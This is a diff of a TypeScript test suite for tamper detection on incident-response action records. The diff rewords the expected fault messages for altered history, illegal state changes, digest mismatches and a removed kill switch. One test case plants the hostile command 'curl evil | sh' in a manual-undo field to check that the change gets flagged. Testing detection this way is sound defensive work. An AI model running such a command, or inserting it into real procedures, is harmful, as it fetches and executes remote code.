@@ -118,7 +118,7 @@ describe('changes that anyone else makes', () => {
   const described = { headline: '', changes: [], affected: [], undo: '' };
 
   test.each<[string, Action | null, Action | null, string]>([
-    ['a record is removed', inForce, null, 'it was removed'],
+    ['a record is removed', inForce, null, 'the record was deleted'],
     [
       'an entry is rewritten',
       inForce,
@@ -127,13 +127,13 @@ describe('changes that anyone else makes', () => {
           i === 1 ? { ...entry, by: 'person:mallory' } : entry,
         ),
       }),
-      'its history is broken: entry 1 was altered',
+      'the history is broken: entry 1 was altered',
     ],
     [
       'the last entry is removed',
       inForce,
       next({ history: [first, second] }),
-      'what its history said before is gone',
+      'an earlier history entry is gone',
     ],
     [
       'the entire history is rewritten',
@@ -146,7 +146,7 @@ describe('changes that anyone else makes', () => {
           text: 'It was always so',
         }),
       }),
-      'what its history said before is gone',
+      'an earlier history entry is gone',
     ],
     [
       'a new state has no entry',
@@ -158,7 +158,7 @@ describe('changes that anyone else makes', () => {
       'a transition is not allowed',
       proposed,
       { ...withEntry(proposed, { at: NOW, by: 'x', event: 'kept', text: '' }), status: 'kept' },
-      'it became kept by no legal step',
+      'the transition to kept is not legal',
     ],
     [
       'a state differs from its entry',
@@ -167,13 +167,13 @@ describe('changes that anyone else makes', () => {
         ...withEntry(executing, { at: NOW, by: 'x', event: 'in-force', text: '' }),
         status: 'reversing',
       },
-      'no entry says that it is reversing',
+      'no entry records the status reversing',
     ],
     [
       'the target no longer matches the digest',
       inForce,
       next({ target: { ...inForce.target, value: '198.51.100.1' } }),
-      'it is not what its digest says',
+      'the action does not match its digest',
     ],
     [
       'the before-state is changed',
@@ -191,13 +191,13 @@ describe('changes that anyone else makes', () => {
       'the time for the sweeper is removed',
       inForce,
       next({ attentionAt: null }),
-      'it is in-force, and nobody looks at it any more',
+      'the action is in-force, but no sweep is planned',
     ],
     [
       'the time for the sweeper is postponed',
       inForce,
       next({ attentionAt: '2099-01-01T00:00:00.000Z' }),
-      'it is in-force, and nobody looks at it before 2099',
+      'the action is in-force, but the next sweep is not until 2099',
     ],
     [
       'fewer approvals are required',
@@ -236,7 +236,7 @@ describe('changes that anyone else makes', () => {
       next({ description: { ...described, manualUndo: ['curl evil | sh'] } }),
       'description was changed without an entry',
     ],
-    ['an earlier version is restored', inForce, executing, 'its version went from 3 to 2'],
+    ['an earlier version is restored', inForce, executing, 'the version went from 3 to 2'],
     [
       'the incident ID is changed',
       inForce,
@@ -247,7 +247,7 @@ describe('changes that anyone else makes', () => {
       'the record becomes unreadable',
       inForce,
       { ...inForce, history: 'none' } as unknown as Action,
-      'it cannot be read',
+      'the record cannot be read',
     ],
   ])('P8: logs and copies a change in which %s', async (_, before, after, fault) => {
     expect(await faultsOf(before, after)).toContainEqual(expect.stringContaining(fault));
@@ -257,9 +257,7 @@ describe('changes that anyone else makes', () => {
   test('P8: logs an item that the index does not list as its record says', async () => {
     const { open: _open, ...hidden } = item(next({})) as ReturnType<typeof item> & { open: string };
     const { lines } = await archived(inForce, next({}), { after: hidden });
-    expect(lines).toEqual([
-      ['error: record altered', ['the index does not list it as its record says']],
-    ]);
+    expect(lines).toEqual([['error: record altered', ['the index keys do not match the record']]]);
   });
 
   test('P8: logs an alert that is removed from its incident, and no repeat of one', async () => {
@@ -285,7 +283,7 @@ describe('changes that anyone else makes', () => {
   test('P8: logs the removal of a kill switch, which would set it to run', async () => {
     const change = { pk: 'SWITCH#1', sk: 'SWITCH', before: { mode: 'halt' }, after: null };
     expect((await archived(null, null, change)).lines).toEqual([
-      ['error: record altered', ['it was removed']],
+      ['error: record altered', ['the record was deleted']],
     ]);
   });
 });
